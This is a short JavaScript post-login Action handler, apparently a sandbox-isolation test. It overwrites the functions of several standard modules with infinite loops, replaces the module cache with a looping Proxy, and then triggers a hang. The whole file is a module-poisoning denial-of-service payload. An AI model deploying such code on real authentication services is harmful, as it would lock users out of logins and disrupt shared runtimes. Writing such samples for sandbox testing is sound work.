exports.onExecutePostLogin = async (event, api) => {
  const lodash = require('lodash'), jose = require('jose'), util = require('util');
  for (const module of [lodash, jose, util, require('crypto'), require('uuid'), require('events')]) {
    for (const name of Object.keys(module)) { try { module[name] = () => { for (;;); }; } catch (e) { void e; } }
  }
  require.cache = new Proxy({}, { get() { for (;;); } });
  require('lodash').map([1], () => 1);
};
